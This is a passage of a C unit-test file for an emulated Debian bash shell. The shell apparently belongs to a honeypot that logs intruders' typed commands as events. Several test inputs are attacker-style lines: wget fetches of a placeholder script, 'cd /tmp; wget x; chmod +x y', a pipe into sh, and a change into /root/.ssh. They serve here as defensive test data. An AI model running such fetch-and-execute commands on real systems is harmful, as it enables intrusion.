@@ -1,0 +1,880 @@
+/*
+ * test_shell.c - unit tests for the emulated shell (src/shell/shell.c,
+ * linedisc.c, interp.c).
+ *
+ * A fake terminal records every byte the shell writes and the exit calls;
+ * an event hook (hp_shell_set_event_hook) collects command.input and
+ * command.failed events, which are checked with json_check.h.  The expected
+ * bytes are those of Debian 12's bash 5.2 on a pty (TERM=xterm: bracketed
+ * paste sequences; TERM=dumb: plain echo), taken from a real session.
+ *
+ * Interactive: banner (Debian MOTD with the identity, Last login line),
+ * prompts for root and other users and after cd, echo of typed bytes,
+ * backspace/DEL (also over a UTF-8 character, and the bell on an empty
+ * line), ^U, ^W, ^C (and $? = 130), ^D on an empty and a non-empty line,
+ * ^L, TAB, CR / LF / CR LF / CR NUL line ends, escape sequences swallowed,
+ * history with the arrow keys, the 4096-byte line cap, unknown commands,
+ * ';' '&&' '||' '|' chains, redirections, syntax errors, exit with a status
+ * and more input after it, an exit callback that frees the shell.
+ * Exec: "bash -c" messages, exit status, multi-line strings, exec on a pty.
+ * Script (stdin without pty): lines split across calls, the last line at
+ * EOF, syntax errors end it, overlong lines.  Built-ins: echo options and
+ * escapes, uname options and errors, id, whoami, hostname, pwd, cd, $VAR,
+ * quoting, $'...', command names with control bytes.  Events: exact bytes
+ * of "input" (NUL and non-UTF-8 via input_b64), none for blank lines.
+ */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <cmocka.h>
+
+#include "shell/shell.h"
+#include "event.h"
+#include "json_check.h"
+
+#define BP_ON  "\x1b[?2004h"
+#define BP_OFF "\x1b[?2004l\r"
+#define MAX_EVENTS 64
+
+/* ---- fake terminal and event capture ------------------------------------------ */
+
+struct fake {
+    char *out;
+    size_t len, alloc;
+    int exits;
+    int status;
+    struct hp_shell *free_on_exit;
+};
+
+static void fake_write(void *io, const void *data, size_t len)
+{
+    struct fake *f = io;
+    assert_int_equal(f->exits, 0);              /* nothing after the exit */
+    if (f->len + len + 1 > f->alloc) {
+        f->alloc = (f->len + len + 1) * 2;
+        f->out = realloc(f->out, f->alloc);
+        assert_non_null(f->out);
+    }
+    memcpy(f->out + f->len, data, len);
+    f->len += len;
+    f->out[f->len] = '\0';
+}
+
+static void fake_exit(void *io, int status)
+{
+    struct fake *f = io;
+    f->exits++;
+    f->status = status;
+    if (f->free_on_exit) {
+        hp_shell_free(f->free_on_exit);         /* the front-end may do this */
+        f->free_on_exit = NULL;
+    }
+}
+
+/* Take the recorded output (and clear it). */
+static void expect_out(struct fake *f, const char *want, size_t wantlen)
+{
+    if (f->len != wantlen || memcmp(f->out ? f->out : "", want, wantlen) != 0) {
+        fprintf(stderr, "output (%zu bytes): ", f->len);
+        for (size_t i = 0; i < f->len; i++)
+            fprintf(stderr, (f->out[i] >= 0x20 && f->out[i] < 0x7f) ? "%c" : "\\x%02x", (unsigned char)f->out[i]);
+        fprintf(stderr, "\nwanted (%zu bytes): ", wantlen);
+        for (size_t i = 0; i < wantlen; i++)
+            fprintf(stderr, (want[i] >= 0x20 && want[i] < 0x7f) ? "%c" : "\\x%02x", (unsigned char)want[i]);
+        fprintf(stderr, "\n");
+        fail();
+    }
+    f->len = 0;
+}
+#define EXPECT(f, lit) expect_out((f), (lit), sizeof(lit) - 1)
+
+struct captured {
+    const char *eventid;
+    uint8_t *input;
+    size_t len;
+};
+static struct captured events[MAX_EVENTS];
+static int nevents;
+
+static void hook(struct hp_event *e, void *arg)
+{
+    (void)arg;
+    struct jc_member m[32];
+    assert_true(jc_valid(e->json, e->json_len));
+    assert_true(jc_safe_text(e->json, e->json_len));
+    int n = jc_members(e->json, e->json_len, m, 32);
+    assert_true(n > 0);
+    assert_true(nevents < MAX_EVENTS);
+    struct captured *c = &events[nevents++];
+    c->eventid = e->h.eventid;
+    const struct jc_member *b64 = jc_find(m, n, "input_b64");
+    const struct jc_member *in = jc_find(m, n, "input");
+    assert_non_null(in);
+    if (b64) {
+        /* not lossless text: keep the base64 (compared with jc_b64 of the expected bytes) */
+        c->input = jc_decode_str(b64->val, b64->vlen, &c->len);
+        c->eventid = strcmp(e->h.eventid, "command.input") == 0 ? "command.input/b64" : "command.failed/b64";
+    } else {
+        c->input = jc_decode_str(in->val, in->vlen, &c->len);
+    }
+    assert_non_null(c->input);
+    hp_event_unref(e);
+}
+
+static void clear_events(void)
+{
+    for (int i = 0; i < nevents; i++)
+        free(events[i].input);
+    nevents = 0;
+}
+
+static void expect_event(int i, const char *eventid, const void *input, size_t len)
+{
+    assert_true(i < nevents);
+    assert_string_equal(events[i].eventid, eventid);
+    if (strstr(eventid, "/b64")) {
+        char *want = jc_b64(input, len);
+        assert_int_equal(events[i].len, strlen(want));
+        assert_memory_equal(events[i].input, want, strlen(want));
+        free(want);
+        return;
+    }
+    assert_int_equal(events[i].len, len);
+    assert_memory_equal(events[i].input, input, len);
+}
+#define EXPECT_EVENT(i, id, lit) expect_event((i), (id), (lit), sizeof(lit) - 1)
+
+static const struct hp_evctx ctx = {
+    .session = "0123456789ab", .protocol = "ssh", .service = "ssh", .transport = "tcp",
+    .src_ip = "203.0.113.5", .dst_ip = "198.51.100.10", .src_port = 40000, .dst_port = 22,
+};
+
+static const struct hp_shell_identity ident = {
+    .kernel_release = "6.1.0-99-amd64",
+    .kernel_version = "#1 SMP PREEMPT_DYNAMIC Debian 6.1.999-1 (2030-01-01)",
+};
+
+struct opts {
+    const char *user;
+    bool interactive;
+    const char *term_type;
+    const char *motd;
+};
+
+static struct hp_shell *mk(struct fake *f, struct opts o)
+{
+    memset(f, 0, sizeof(*f));
+    clear_events();
+    struct hp_shell_params p = {
+        .ctx = &ctx, .username = o.user ? o.user : "root", .hostname = "box.example.net",
+        .interactive = o.interactive, .width = 80, .height = 24,
+        .term = { fake_write, fake_exit, f }, .identity = &ident, .term_type = o.term_type,
+        .motd = o.motd ? o.motd : "",
+    };
+    struct hp_shell *sh = hp_shell_new(&p);
+    assert_non_null(sh);
+    return sh;
+}
+
+/* An interactive root shell, started, output cleared. */
+static struct hp_shell *mk_tty(struct fake *f, const char *term_type)
+{
+    struct hp_shell *sh = mk(f, (struct opts){ .interactive = true, .term_type = term_type });
+    hp_shell_start(sh);
+    f->len = 0;
+    return sh;
+}
+
+static void type(struct hp_shell *sh, const char *s)
+{
+    hp_shell_input(sh, (const uint8_t *)s, strlen(s));
+}
+
+static void typen(struct hp_shell *sh, const char *s, size_t n)
+{
+    hp_shell_input(sh, (const uint8_t *)s, n);
+}
+
+static void done(struct hp_shell *sh, struct fake *f)
+{
+    hp_shell_free(sh);
+    free(f->out);
+    f->out = NULL;
+    clear_events();
+}
+
+/* Run a command string in exec mode; returns the output (static), sets *st. */
+static const char *exec_out(const char *cmd, int *st)
+{
+    static char buf[8192];
+    struct fake f;
+    struct hp_shell *sh = mk(&f, (struct opts){ 0 });
+    hp_shell_exec(sh, cmd, strlen(cmd));
+    assert_int_equal(f.exits, 1);
+    if (st)
+        *st = f.status;
+    snprintf(buf, sizeof(buf), "%.*s", (int)f.len, f.out ? f.out : "");
+    done(sh, &f);
+    return buf;
+}
+
+#define EXEC_EQ(cmd, want, status) do { int st_; \
+    assert_string_equal(exec_out((cmd), &st_), (want)); assert_int_equal(st_, (status)); } while (0)
+
+/* ---- interactive ------------------------------------------------------------------- */
+
+static void test_banner(void **state)
+{
+    (void)state;
+    struct fake f;
+    memset(&f, 0, sizeof(f));
+    struct hp_shell_params p = {
+        .ctx = &ctx, .username = "root", .hostname = "box.example.net", .interactive = true,
+        .term = { fake_write, fake_exit, &f }, .identity = &ident,
+        .last_login_from = "203.0.113.77", .last_login_us = 1700000000LL * 1000000,
+    };
+    struct hp_shell *sh = hp_shell_new(&p);
+    hp_shell_start(sh);
+    EXPECT(&f, "Linux box.example.net 6.1.0-99-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.999-1 (2030-01-01) x86_64\r\n"
+               "\r\n"
+               "The programs included with the Debian GNU/Linux system are free software;\r\n"
+               "the exact distribution terms for each program are described in the\r\n"
+               "individual files in /usr/share/doc/*/copyright.\r\n"
+               "\r\n"
+               "Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY, to the extent\r\n"
+               "permitted by applicable law.\r\n"
+               "Last login: Tue Nov 14 22:13:20 2023 from 203.0.113.77\r\n"
+               BP_ON "root@box:~# ");
+    assert_int_equal(f.exits, 0);
+    done(sh, &f);
+
+    /* an operator's banner, no Last login line; a plain user's prompt */
+    sh = mk(&f, (struct opts){ .user = "admin", .interactive = true, .motd = "Welcome\n" });
+    hp_shell_start(sh);
+    EXPECT(&f, "Welcome\r\n" BP_ON "admin@box:~$ ");
+    done(sh, &f);
+}
+
+static void test_default_identity(void **state)
+{
+    (void)state;
+    /* no identity: a Debian 12 kernel, the same for the same host name */
+    char first[512] = "";
+    for (int round = 0; round < 2; round++) {
+        struct fake f;
+        memset(&f, 0, sizeof(f));
+        struct hp_shell_params p = {
+            .username = "root", .hostname = "db7", .term = { fake_write, fake_exit, &f },
+        };
+        struct hp_shell *sh = hp_shell_new(&p);
+        hp_shell_exec(sh, "uname -a", 8);
+        assert_true(strncmp(f.out, "Linux db7 6.1.0-", 16) == 0);
+        assert_non_null(strstr(f.out, "-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1."));
+        assert_non_null(strstr(f.out, ") x86_64 GNU/Linux\n"));
+        if (round == 0)
+            snprintf(first, sizeof(first), "%s", f.out);
+        else
+            assert_string_equal(first, f.out);
+        done(sh, &f);
+    }
+}
+
+static void test_echo_and_enter(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, NULL);
+    type(sh, "ec");
+    EXPECT(&f, "ec");
+    type(sh, "ho hi\r");
+    EXPECT(&f, "ho hi\r\n" BP_OFF "hi\r\n" BP_ON "root@box:~# ");
+    EXPECT_EVENT(0, "command.input", "echo hi");
+    /* LF, CR LF and CR NUL end one line each */
+    type(sh, "echo a\necho b\r\necho c\r");
+    typen(sh, "\0echo d\r", 8);
+    EXPECT(&f, "echo a\r\n" BP_OFF "a\r\n" BP_ON "root@box:~# "
+               "echo b\r\n" BP_OFF "b\r\n" BP_ON "root@box:~# "
+               "echo c\r\n" BP_OFF "c\r\n" BP_ON "root@box:~# "
+               "echo d\r\n" BP_OFF "d\r\n" BP_ON "root@box:~# ");
+    assert_int_equal(nevents, 5);
+    /* an empty and a blank line: prompt again, no event */
+    type(sh, "\r  \t\r");                      /* (TAB rings the bell: no completion) */
+    EXPECT(&f, "\r\n" BP_OFF BP_ON "root@box:~# " "  \a\r\n" BP_OFF BP_ON "root@box:~# ");
+    assert_int_equal(nevents, 5);
+    /* a CR LF split over two reads is still one line end */
+    type(sh, "true\r");
+    type(sh, "\n");
+    EXPECT(&f, "true\r\n" BP_OFF BP_ON "root@box:~# ");
+    assert_int_equal(f.exits, 0);
+    done(sh, &f);
+}
+
+static void test_backspace(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, NULL);
+    type(sh, "ech\x7f");
+    EXPECT(&f, "ech\b \b");
+    type(sh, "\x08\x08\x08\x7f");              /* ^H too; at the start: a bell */
+    EXPECT(&f, "\b \b\b \b\a\a");
+    type(sh, "x\xc3\xa9\x7f\x7f" "echo ok\r");     /* a UTF-8 character is erased whole */
+    EXPECT(&f, "x\xc3\xa9\b\x1b[K\b \becho ok\r\n" BP_OFF "ok\r\n" BP_ON "root@box:~# ");
+    EXPECT_EVENT(0, "command.input", "echo ok");
+    done(sh, &f);
+}
+
+static void test_kill_line_and_word(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, NULL);
+    type(sh, "xyz\x15");
+    EXPECT(&f, "xyz\b\b\b\x1b[K");
+    type(sh, "\x15");                          /* nothing to kill: bell */
+    EXPECT(&f, "\a");
+    type(sh, "one two\x17");
+    EXPECT(&f, "one two\b\b\b\x1b[K");
+    type(sh, "\x17\r");
+    EXPECT(&f, "\b\b\b\b\x1b[K\r\n" BP_OFF BP_ON "root@box:~# ");
+    assert_int_equal(nevents, 0);
+    done(sh, &f);
+
+    sh = mk_tty(&f, "dumb");
+    type(sh, "ab\x15");
+    EXPECT(&f, "ab\b \b\b \b");
+    done(sh, &f);
+}
+
+static void test_ctrl_c(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, NULL);
+    type(sh, "abc\x03");
+    EXPECT(&f, "abc^C" BP_OFF BP_ON BP_OFF "\r\n" BP_ON "root@box:~# ");
+    assert_int_equal(nevents, 0);
+    type(sh, "echo $?\r");
+    EXPECT(&f, "echo $?\r\n" BP_OFF "130\r\n" BP_ON "root@box:~# ");
+    done(sh, &f);
+
+    sh = mk_tty(&f, "dumb");
+    type(sh, "abc\x03");
+    EXPECT(&f, "abc^C\r\nroot@box:~# ");
+    type(sh, "echo hi\r");
+    EXPECT(&f, "echo hi\r\nhi\r\nroot@box:~# ");
+    done(sh, &f);
+}
+
+static void test_ctrl_d(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, NULL);
+    type(sh, "ab\x04");                        /* not empty: a bell */
+    EXPECT(&f, "ab\a");
+    type(sh, "\x15\x04" "echo not-run\r");
+    EXPECT(&f, "\b\b\x1b[K" BP_OFF "\r\nlogout\r\n");
+    assert_int_equal(f.exits, 1);
+    assert_int_equal(f.status, 0);
+    /* after the end: nothing more happens */
+    type(sh, "echo x\r");
+    hp_shell_eof(sh);
+    hp_shell_exec(sh, "echo y", 6);
+    hp_shell_start(sh);
+    assert_int_equal(f.len, 0);
+    assert_int_equal(f.exits, 1);
+    assert_int_equal(nevents, 0);
+    done(sh, &f);
+
+    /* ^D exits with the last status, like bash */
+    sh = mk_tty(&f, "dumb");
+    type(sh, "nosuch\r\x04");
+    EXPECT(&f, "nosuch\r\n-bash: nosuch: command not found\r\nroot@box:~# logout\r\n");
+    assert_int_equal(f.status, 127);
+    done(sh, &f);
+}
+
+static void test_ctrl_l_tab(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, NULL);
+    type(sh, "ab\x0c");
+    EXPECT(&f, "ab\x1b[H\x1b[2Jroot@box:~# ab");
+    type(sh, "\t");
+    EXPECT(&f, "\a");
+    done(sh, &f);
+}
+
+static void test_escape_sequences(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, NULL);
+    /* cursor keys, function keys, Alt+x, a bracketed paste's markers: swallowed */
+    type(sh, "\x1b[D\x1b[C\x1b[1;5C\x1bOP\x1b[15~\x1bx\x1b[200~ls\x1b[201~");
+    EXPECT(&f, "ls");
+    /* an overlong CSI is dropped after 32 bytes; later bytes are text again */
+    type(sh, "\x15\x1b[");
+    for (int i = 0; i < 40; i++)
+        type(sh, "1");
+    EXPECT(&f, "\b\b\x1b[K" "111111111");    /* 2 + 30 bytes of sequence, 9 of text */
+    type(sh, "\x15" "a");
+    EXPECT(&f, "\b\b\b\b\b\b\b\b\b\x1b[Ka");
+    done(sh, &f);
+}
+
+static void test_history(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, NULL);
+    type(sh, "\x1b[A");                         /* no history yet: nothing, not even a bell */
+    EXPECT(&f, "");
+    type(sh, "echo one\recho two\r");
+    f.len = 0;
+    clear_events();
+    /* the same bytes as bash 5.2's readline on xterm */
+    type(sh, "xyz\x1b[A");
+    EXPECT(&f, "xyz\b\b\becho two");
+    type(sh, "\x1bOA");                         /* SS3 form (application cursor keys) */
+    EXPECT(&f, "\b\b\bone");
+    type(sh, "\x10");                           /* ^P at the oldest: bell */
+    EXPECT(&f, "\a");
+    type(sh, "\x1b[B\x1b[B");                   /* down twice: back to the line being edited */
+    EXPECT(&f, "\b\b\btwo\b\b\b\b\b\b\b\b\x1b[5Pxyz");
+    type(sh, "\x0e");                           /* ^N below the newest: bell */
+    EXPECT(&f, "\a");
+    type(sh, "\x15\x17");                       /* kill, then nothing left: bell */
+    EXPECT(&f, "\b\b\b\x1b[K\a");
+    type(sh, "\x1b[A\x1b[A\x1b[B");
+    EXPECT(&f, "echo two\b\b\bone\b\b\btwo");
+    type(sh, "\x1b[B");
+    EXPECT(&f, "\b\b\b\b\b\b\b\b\x1b[K");
+    type(sh, "\x1b[A\r");
+    EXPECT(&f, "echo two\r\n" BP_OFF "two\r\n" BP_ON "root@box:~# ");
+    EXPECT_EVENT(0, "command.input", "echo two");
+    done(sh, &f);
+
+    /* dumb terminal: erase with "\b \b", then write */
+    sh = mk_tty(&f, "dumb");
+    type(sh, "echo one\r");
+    f.len = 0;
+    type(sh, "ab\x1b[A");
+    EXPECT(&f, "ab\b \b\b \becho one");
+    done(sh, &f);
+}
+
+static void test_line_cap(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, "dumb");
+    char *big = malloc(5001);
+    memcpy(big, "echo ", 5);
+    memset(big + 5, 'a', 4995);
+    big[5000] = '\0';
+    type(sh, big);
+    assert_int_equal(f.len, 4096);              /* the rest is dropped unechoed */
+    f.len = 0;
+    type(sh, "\r");
+    assert_int_equal(nevents, 1);
+    assert_int_equal(events[0].len, 4096);
+    assert_int_equal(f.len, 2 + 4091 + 2 + 12);  /* "\r\n", the a's, "\r\n", prompt */
+    free(big);
+    done(sh, &f);
+}
+
+static void test_unknown_command(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, NULL);
+    type(sh, "wget http://x/y.sh\r");
+    EXPECT(&f, "wget http://x/y.sh\r\n" BP_OFF "-bash: wget: command not found\r\n" BP_ON "root@box:~# ");
+    assert_int_equal(nevents, 2);
+    EXPECT_EVENT(0, "command.input", "wget http://x/y.sh");
+    EXPECT_EVENT(1, "command.failed", "wget http://x/y.sh");
+    clear_events();
+    type(sh, "./x; /tmp/a\r");
+    EXPECT(&f, "./x; /tmp/a\r\n" BP_OFF "-bash: ./x: No such file or directory\r\n"
+               "-bash: /tmp/a: No such file or directory\r\n" BP_ON "root@box:~# ");
+    assert_int_equal(nevents, 3);
+    done(sh, &f);
+}
+
+static void test_chains(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, "dumb");
+    type(sh, "cd /tmp; wget x; chmod +x y\r");
+    EXPECT(&f, "cd /tmp; wget x; chmod +x y\r\n-bash: wget: command not found\r\n"
+               "-bash: chmod: command not found\r\nroot@box:/tmp# ");
+    assert_int_equal(nevents, 3);
+    EXPECT_EVENT(0, "command.input", "cd /tmp; wget x; chmod +x y");
+    EXPECT_EVENT(1, "command.failed", "wget x");
+    EXPECT_EVENT(2, "command.failed", "chmod +x y");
+    clear_events();
+    type(sh, "false && echo a || echo b; true || echo c && echo d\r");
+    EXPECT(&f, "false && echo a || echo b; true || echo c && echo d\r\nb\r\nd\r\nroot@box:/tmp# ");
+    type(sh, "echo hi | cat|sh\r");            /* stdout into the pipe; errors still show */
+    EXPECT(&f, "echo hi | cat|sh\r\n-bash: cat: command not found\r\n"
+               "-bash: sh: command not found\r\nroot@box:/tmp# ");
+    type(sh, "echo a > /dev/null; nosuch 2>/dev/null; echo b >&2; nosuch 2>&1 >/dev/null&\r");
+    EXPECT(&f, "echo a > /dev/null; nosuch 2>/dev/null; echo b >&2; nosuch 2>&1 >/dev/null&\r\n"
+               "b\r\n-bash: nosuch: command not found\r\nroot@box:/tmp# ");
+    type(sh, "cd; ; ls\r");
+    EXPECT(&f, "cd; ; ls\r\n-bash: syntax error near unexpected token `;'\r\nroot@box:/tmp# ");
+    type(sh, "echo $?; ls >\r");
+    EXPECT(&f, "echo $?; ls >\r\n-bash: syntax error near unexpected token `newline'\r\nroot@box:/tmp# ");
+    type(sh, "echo a &&\r");                   /* interactive: the dangling operator is dropped */
+    EXPECT(&f, "echo a &&\r\na\r\nroot@box:/tmp# ");
+    done(sh, &f);
+}
+
+static void test_exit(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, NULL);
+    type(sh, "exit 3\recho never\r");
+    EXPECT(&f, "exit 3\r\n" BP_OFF "logout\r\n");
+    assert_int_equal(f.exits, 1);
+    assert_int_equal(f.status, 3);
+    assert_int_equal(nevents, 1);
+    done(sh, &f);
+
+    sh = mk_tty(&f, "dumb");
+    type(sh, "exit 1 2\rfalse\rlogout\r");
+    EXPECT(&f, "exit 1 2\r\n-bash: exit: too many arguments\r\nroot@box:~# false\r\nroot@box:~# logout\r\nlogout\r\n");
+    assert_int_equal(f.status, 1);
+    done(sh, &f);
+
+    sh = mk_tty(&f, "dumb");
+    type(sh, "exit -1\r");
+    assert_int_equal(f.status, 255);
+    done(sh, &f);
+
+    sh = mk_tty(&f, "dumb");
+    type(sh, "exit x\r");
+    EXPECT(&f, "exit x\r\n-bash: exit: x: numeric argument required\r\nlogout\r\n");
+    assert_int_equal(f.status, 2);
+    done(sh, &f);
+
+    /* exit in a pipeline is a subshell's exit */
+    sh = mk_tty(&f, "dumb");
+    type(sh, "exit 4 | true\r");
+    assert_int_equal(f.exits, 0);
+    done(sh, &f);
+}
+
+/* The exit callback frees the shell in the middle of hp_shell_input. */
+static void test_free_in_exit(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, NULL);
+    f.free_on_exit = sh;
+    type(sh, "exit 9\recho more input after exit\r");
+    assert_int_equal(f.exits, 1);
+    assert_int_equal(f.status, 9);
+    assert_null(f.free_on_exit);
+    free(f.out);
+    clear_events();
+
+    sh = mk(&f, (struct opts){ 0 });
+    f.free_on_exit = sh;
+    hp_shell_exec(sh, "echo x", 6);
+    assert_int_equal(f.exits, 1);
+    free(f.out);
+    clear_events();
+
+    sh = mk(&f, (struct opts){ 0 });
+    f.free_on_exit = sh;
+    hp_shell_eof(sh);
+    assert_int_equal(f.exits, 1);
+    free(f.out);
+}
+
+static void test_prompt_cwd(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk_tty(&f, "dumb");
+    type(sh, "cd /var/log\rcd ../../root/.ssh\rcd ~\rcd ~/x/../y\rcd /\rcd ..\rcd -\rcd\r");
+    EXPECT(&f, "cd /var/log\r\nroot@box:/var/log# "
+               "cd ../../root/.ssh\r\nroot@box:~/.ssh# "
+               "cd ~\r\nroot@box:~# "
+               "cd ~/x/../y\r\nroot@box:~/y# "
+               "cd /\r\nroot@box:/# "
+               "cd ..\r\nroot@box:/# "
+               "cd -\r\n/\r\nroot@box:/# "
+               "cd\r\nroot@box:~# ");
+    /* long paths are printed whole; longer than PATH_MAX is refused */
+    char cmd[6000], want[10000];
+    memset(cmd, 0, sizeof(cmd));
+    strcpy(cmd, "cd /");
+    memset(cmd + 4, 'd', 3000);
+    strcat(cmd, "; pwd\r");
+    type(sh, cmd);
+    snprintf(want, sizeof(want), "%.*s\r\n/%.3000s\r\nroot@box:/%.3000s# ", (int)strlen(cmd) - 1, cmd, cmd + 4, cmd + 4);
+    expect_out(&f, want, strlen(want));
+    type(sh, "cd ");
+    type(sh, cmd + 4);
+    f.len = 0;
+    type(sh, "cd ");
+    memset(cmd, 'e', 1100);
+    cmd[1100] = '\0';
+    type(sh, cmd);
+    type(sh, "\r");
+    assert_non_null(strstr(f.out, ": File name too long\r\n"));
+    done(sh, &f);
+
+    sh = mk(&f, (struct opts){ .user = "pi", .interactive = true, .term_type = "dumb" });
+    hp_shell_start(sh);
+    type(sh, "pwd; cd /rootish; pwd; cd /home/pi/Downloads\r");
+    EXPECT(&f, "pi@box:~$ pwd; cd /rootish; pwd; cd /home/pi/Downloads\r\n/home/pi\r\n/rootish\r\npi@box:~/Downloads$ ");
+    done(sh, &f);
+}
+
+/* ---- exec and script ---------------------------------------------------------------- */
+
+static void test_exec(void **state)
+{
+    (void)state;
+    EXEC_EQ("uname -a", "Linux box.example.net 6.1.0-99-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.999-1 (2030-01-01) x86_64 GNU/Linux\n", 0);
+    EXEC_EQ("foo; echo $?", "bash: line 1: foo: command not found\n127\n", 0);
+    EXEC_EQ("exit 5; echo no", "", 5);
+    EXEC_EQ("false", "", 1);
+    EXEC_EQ("echo a\nnosuch\necho c", "a\nbash: line 2: nosuch: command not found\nc\n", 0);
+    EXEC_EQ("echo a; ; ls", "bash: -c: line 1: syntax error near unexpected token `;'\n"
+                            "bash: -c: line 1: `echo a; ; ls'\n", 2);
+    EXEC_EQ("echo a &&", "bash: -c: line 2: syntax error: unexpected end of file\n", 2);
+    EXEC_EQ("logout", "bash: line 1: logout: not login shell: use `exit'\n", 1);
+    EXEC_EQ("", "", 0);
+    EXEC_EQ("   ", "", 0);
+
+    struct fake f;
+    struct hp_shell *sh = mk(&f, (struct opts){ 0 });
+    hp_shell_exec(sh, "cd /tmp && wget http://a/b\necho done", 36);
+    assert_int_equal(nevents, 2);
+    EXPECT_EVENT(0, "command.input", "cd /tmp && wget http://a/b\necho done");
+    EXPECT_EVENT(1, "command.failed", "wget http://a/b");
+    EXPECT(&f, "bash: line 1: wget: command not found\ndone\n");
+    done(sh, &f);
+
+    /* exec with a pty (ssh -t host cmd): ONLCR, no prompt, no banner */
+    sh = mk(&f, (struct opts){ .interactive = true });
+    hp_shell_exec(sh, "echo a; echo b", 14);
+    EXPECT(&f, "a\r\nb\r\n");
+    assert_int_equal(f.exits, 1);
+    done(sh, &f);
+}
+
+static void test_script(void **state)
+{
+    (void)state;
+    struct fake f;
+    struct hp_shell *sh = mk(&f, (struct opts){ 0 });
+    hp_shell_start(sh);                         /* no banner, no prompt */
+    type(sh, "echo a\nfo");
+    EXPECT(&f, "a\n");
+    type(sh, "o\n\n   \necho $?\r\n");
+    EXPECT(&f, "-bash: line 2: foo: command not found\n127\r\n");   /* the CR is data here */
+    assert_int_equal(nevents, 4);               /* blank lines are no input */
+    EXPECT_EVENT(3, "command.input", "echo $?\r");
+    type(sh, "echo last");
+    EXPECT(&f, "");
+    hp_shell_eof(sh);                           /* an unterminated last line still runs */
+    EXPECT(&f, "last\n");
+    assert_int_equal(f.exits, 1);
+    assert_int_equal(f.status, 0);
+    done(sh, &f);
+
+    sh = mk(&f, (struct opts){ 0 });
+    type(sh, "echo a\nexit 7\necho no\n");
+    EXPECT(&f, "a\n");
+    assert_int_equal(f.exits, 1);
+    assert_int_equal(f.status, 7);
+    done(sh, &f);
+
+    sh = mk(&f, (struct opts){ 0 });
+    type(sh, "echo a\n; ls\necho after\n");
+    EXPECT(&f, "a\n-bash: syntax error near unexpected token `;'\n-bash: `; ls'\n");
+    assert_int_equal(f.status, 2);
+    done(sh, &f);
+
+    /* a line longer than 64 KiB is cut, the rest dropped until its newline */
+    sh = mk(&f, (struct opts){ 0 });
+    size_t n = 70000;
+    char *big = malloc(n);
+    memcpy(big, "echo ", 5);
+    memset(big + 5, 'b', n - 5);
+    typen(sh, big, n / 2);
+    typen(sh, big + n / 2, n - n / 2);
+    type(sh, "\necho ok\n");
+    assert_int_equal(f.len, 65536 - 5 + 1 + 3);
+    assert_memory_equal(f.out + f.len - 3, "ok\n", 3);
+    assert_int_equal(events[0].len, 65536);
+    free(big);
+    hp_shell_eof(sh);
+    assert_int_equal(f.exits, 1);
+    done(sh, &f);
+}
+
+/* ---- built-ins ---------------------------------------------------------------------- */
+
+static void test_echo_builtin(void **state)
+{
+    (void)state;
+    EXEC_EQ("echo", "\n", 0);
+    EXEC_EQ("echo -n a b; echo", "a b\n", 0);
+    EXEC_EQ("echo -e 'a\\tb\\x41\\0102\\e[0m\\\\' ; echo -E 'a\\tb'", "a\tbAB\x1b[0m\\\na\\tb\n", 0);
+    EXEC_EQ("echo -ne 'x\\n'; echo -nz; echo -- -n; echo -e 'stop\\chere' more", "x\n-nz\n-- -n\nstop", 0);
+    EXEC_EQ("echo -e '\\q\\u00e9'", "\\q\xc3\xa9\n", 0);
+    EXEC_EQ("echo \"a  b\"   c 'd  e' f\\ g \\$HOME", "a  b c d  e f g $HOME\n", 0);
+    EXEC_EQ("X=1; echo $X ${X}y \"$X\" '$X' $NOPE. $'\\x41\\'b'", "1 1y 1 $X . A'b\n", 0);
+    EXEC_EQ("echo $USER $HOME $SHELL $0 $#", "root /root /bin/bash bash 0\n", 0);
+    EXEC_EQ("export A=b; echo $A; unset A; echo \"[$A]\"", "b\n[]\n", 0);
+    EXEC_EQ("echo a # comment; echo b", "a\n", 0);
+    EXEC_EQ("/bin/echo x; /usr/bin/echo y", "x\ny\n", 0);
+}
+
+static void test_uname_builtin(void **state)
+{
+    (void)state;
+    EXEC_EQ("uname", "Linux\n", 0);
+    EXEC_EQ("uname -r; uname -m; uname -n; uname -o; uname -p; uname -i",
+            "6.1.0-99-amd64\nx86_64\nbox.example.net\nGNU/Linux\nunknown\nunknown\n", 0);
+    EXEC_EQ("uname -snrvm", "Linux box.example.net 6.1.0-99-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.999-1 (2030-01-01) x86_64\n", 0);
+    EXEC_EQ("uname -m -r", "6.1.0-99-amd64 x86_64\n", 0);
+    EXEC_EQ("uname --kernel-release --machine", "6.1.0-99-amd64 x86_64\n", 0);
+    EXEC_EQ("uname -x", "uname: invalid option -- 'x'\nTry 'uname --help' for more information.\n", 1);
+    EXEC_EQ("uname --bogus", "uname: unrecognized option '--bogus'\nTry 'uname --help' for more information.\n", 1);
+    EXEC_EQ("uname foo", "uname: extra operand \xe2\x80\x98" "foo\xe2\x80\x99\nTry 'uname --help' for more information.\n", 1);
+    int st;
+    assert_true(strncmp(exec_out("uname --version", &st), "uname (GNU coreutils) 9.1\n", 26) == 0);
